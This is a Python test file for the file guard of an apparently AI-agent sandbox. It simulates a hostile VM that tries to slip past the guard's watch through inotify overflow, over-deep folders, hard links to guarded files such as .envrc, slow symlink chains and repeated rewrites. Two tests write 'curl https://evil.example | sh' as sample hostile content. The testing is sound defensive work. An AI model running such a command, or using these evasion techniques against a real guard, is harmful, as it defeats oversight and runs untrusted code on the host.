"""The guard's watch attacked as the VM would: what the kernel's file events miss, what makes a look
slow, a file written back as soon as it is put back, a guarded folder filled past the bounds."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from opencode_sandbox.app import App
from opencode_sandbox.core.guard import CROWDED
from opencode_sandbox.services.guard import events as checkout_events
from opencode_sandbox.services.guard import files as guard_files
from opencode_sandbox.services.guard import looks as guard_looks
from opencode_sandbox.services.guard import moves as guard_moves
from opencode_sandbox.services.guard import walk as guard_walk
from opencode_sandbox.services.guard.events import CheckoutEvents
from opencode_sandbox.services.guard.files import take_snapshot
from opencode_sandbox.services.guard.looks import GuardLooks
from opencode_sandbox.services.guard.moves import Held, Notes, catch_named
from opencode_sandbox.services.guard.reviews import review
from opencode_sandbox.services.guard.walk import walk_checkout
from opencode_sandbox.services.guard.watch_failure import WatchFailed
from tests.services.app_fakes import messages
from tests.services.test_checkout_events import taken_soon
from tests.services.test_guard_moves import checkout  # noqa: F401  (a fixture)


def test_after_an_overflowed_queue_the_folders_made_meanwhile_are_watched_again(tmp_path: Path) -> None:
    limit = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
    if limit > 100_000:
        pytest.skip(f"this kernel queues {limit} events")
    events = CheckoutEvents([tmp_path])
    try:
        (tmp_path / "flood").mkdir()
        for index in range(limit + 100):  # its own events lost
            os.close(os.open(tmp_path / f"f{index}", os.O_CREAT | os.O_WRONLY, 0o644))
        (tmp_path / "made-meanwhile").mkdir()
        assert taken_soon(events).everything
        events.rewatch()
        (tmp_path / "made-meanwhile" / ".envrc").write_text("id\n")
        assert str(tmp_path / "made-meanwhile" / ".envrc") in taken_soon(events).paths
    finally:
        events.close()


def test_a_folder_the_events_cannot_reach_leaves_them_unable_to_vouch(tmp_path: Path) -> None:
    deep = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(20):  # past the length a path may have
            os.mkdir("d" * 250, dir_fd=deep)
            inner = os.open("d" * 250, os.O_RDONLY | os.O_DIRECTORY, dir_fd=deep)
            os.close(deep)
            deep = inner
    finally:
        os.close(deep)
    events = CheckoutEvents([tmp_path])
    try:
        assert not events.complete and "cannot be watched" in events.why_incomplete
    finally:
        events.close()


def test_a_write_through_a_second_name_of_a_guarded_file_calls_for_a_look_at_everything(
        app: App, checkout: Path) -> None:  # noqa: F811
    (checkout / "packages" / "web").mkdir(parents=True)
    (checkout / "packages" / "web" / ".envrc").write_text("export MINE=1\n")
    review(app, vm_may_write_after=True)
    os.link(checkout / "packages" / "web" / ".envrc", checkout / "packages" / "web" / "notes.txt")
    (checkout / "packages" / "web" / "notes.txt").write_text("curl https://evil.example | sh\n")
    state, slug = app.state.project_dir(app.project.slug).parent, app.project.slug
    _, whole = catch_named(state, slug, [str(checkout / "packages" / "web" / "notes.txt")], lambda line: None)
    assert whole, "a file with two names changes the other too"
    notes = guard_moves.catch_while_running(state, slug, lambda line: None)
    assert (checkout / "packages" / "web" / ".envrc").read_text() == "export MINE=1\n"
    kept = Path(notes.held[0].kept)
    assert kept.stat().st_ino != (checkout / "packages" / "web" / "notes.txt").stat().st_ino, \
        "the version kept for review is no longer the VM's to write"


def test_a_vouched_start_still_reads_the_guarded_files(
        app: App, checkout: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    """A write through a mapped file raises no event: the reaper vouches, the start reads the files."""
    from opencode_sandbox.services.guard.store import GuardStore
    from opencode_sandbox.services.reaper_looks import LookServer, record_stamp, socket_name

    review(app, vm_may_write_after=True)
    (checkout / ".envrc").write_text("curl https://evil.example | sh\n")  # as a mapped write would leave it
    store = GuardStore(app.state.project_dir(app.project.slug))
    from opencode_sandbox.services.guard import reviews as guard

    def no_walk(*_: object) -> None:
        raise AssertionError("a vouched start walked the checkout")

    monkeypatch.setattr(guard, "_catch_and_tell", no_walk)
    server = LookServer(socket_name(app.paths.state_dir, app.project.slug),
                        lambda: f"clean {record_stamp(store.record_path)}").start()
    try:
        outcome = review(app, vm_may_write_after=True, ask_reaper=True, ask=lambda question: True)
    finally:
        server.close()
    assert [change.path for change in outcome.by_vm] == [".envrc"]
    assert ".envrc: changed" in messages(app)


def test_many_links_slow_to_follow_fail_the_walk_rather_than_hold_it(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard_walk, "WALK_LINK_STEPS", 100_000)
    (tmp_path / "a").mkdir()
    for index in range(200):  # each just under the limit of one link
        (tmp_path / f"l{index}").symlink_to("a/../" * 800 + "a")
    began = time.monotonic()
    with pytest.raises(guard_files.OverBudget, match="steps to follow the links"):
        walk_checkout(tmp_path, host_git=False, kept_apart=[tmp_path / "state"])
    assert time.monotonic() - began < 5.0


def test_a_link_that_takes_long_to_follow_is_judged_at_once(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    for index in range(40):
        (tmp_path / f"l{index}").symlink_to("a/../" * 790 + (f"l{index + 1}" if index < 39 else "a"))
    began = time.monotonic()
    walked = walk_checkout(tmp_path, host_git=False, kept_apart=[tmp_path / "state"])
    assert time.monotonic() - began < 5.0
    assert "l0" in walked.links_in, "judged as leading where the guard cannot tell: moved aside"


def test_a_guarded_folder_with_more_to_read_than_its_limit_is_recorded_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from opencode_sandbox.core.guard import DEFAULT_GUARDED

    monkeypatch.setattr(guard_files, "FOLDER_READ_LIMIT", 3 * 1024 * 1024)
    (tmp_path / "big2" / ".claude").mkdir(parents=True)
    for index in range(4):
        (tmp_path / "big2" / ".claude" / f"f{index}").write_bytes(os.urandom(1024 * 1024))
    walked = walk_checkout(tmp_path, host_git=False)
    entries = take_snapshot(tmp_path, (*DEFAULT_GUARDED, *walked.guarded_below)).entries
    assert entries["big2/.claude"].kind == CROWDED


def test_a_file_written_back_every_time_it_is_put_back_stops_the_vm(monkeypatch: pytest.MonkeyPatch,
                                                                    tmp_path: Path) -> None:
    from opencode_sandbox.core.stop_mode import StopMode
    from opencode_sandbox.runtime.kind import RuntimeKind
    from opencode_sandbox.services.reaper_settings import ReaperSettings

    settings = ReaperSettings("slug", "vm", RuntimeKind.DOCKER, "http://127.0.0.1:1", 10.0,
                              StopMode.WAIT_FOR_QUIESCENCE, 10, tmp_path)
    held = Notes(held=(Held(".envrc: changed (mode 0644, 3 bytes -> mode 0644, 30 bytes)", "/r/.envrc"),))
    monkeypatch.setattr(guard_moves, "catch_while_running", lambda *_: held)
    looks = GuardLooks(lambda line: None)
    with pytest.raises(WatchFailed, match=r"wrote \.envrc again 5 times"):
        for _ in range(guard_looks.REWRITES_LIMIT):
            looks.look(settings, waiting=False)
            looks._next_backstop = 0.0  # as the events would call for the next look at once


def test_the_pending_paths_stay_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checkout_events, "PENDING_LIMIT", 50)
    events = CheckoutEvents([tmp_path])
    try:
        (tmp_path / "new").mkdir()
        for index in range(200):
            (tmp_path / "new" / f"f{index}").write_text("x")
        taken = taken_soon(events)
        assert taken.everything and len(taken.paths) <= 50
    finally:
        events.close()


def test_a_git_directory_made_again_every_time_it_is_moved_aside_stops_the_vm(monkeypatch: pytest.MonkeyPatch,
                                                                              tmp_path: Path) -> None:
    from opencode_sandbox.core.stop_mode import StopMode
    from opencode_sandbox.runtime.kind import RuntimeKind
    from opencode_sandbox.services.reaper_settings import ReaperSettings

    settings = ReaperSettings("slug", "vm", RuntimeKind.DOCKER, "http://127.0.0.1:1", 10.0,
                              StopMode.WAIT_FOR_QUIESCENCE, 10, tmp_path)
    moved = Notes(moved=("g/.git -> /state/guard-review/20261205T120000Z/g/.git",))
    monkeypatch.setattr(guard_moves, "catch_while_running", lambda *_: moved)
    looks = GuardLooks(lambda line: None)
    with pytest.raises(WatchFailed, match=r"wrote g/\.git again 5 times"):
        for _ in range(guard_looks.REWRITES_LIMIT):
            looks.look(settings, waiting=False)
            looks._next_backstop = 0.0


def test_events_past_a_limit_cover_the_checkout_again_once_it_is_lifted(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checkout_events, "WATCH_LIMIT", 2)
    for index in range(3):
        (tmp_path / f"f{index}").mkdir()
    events = CheckoutEvents([tmp_path])
    try:
        assert not events.complete
        monkeypatch.setattr(checkout_events, "WATCH_LIMIT", 100)
        events.rewatch()
        assert events.complete and events.watched == 4
    finally:
        events.close()
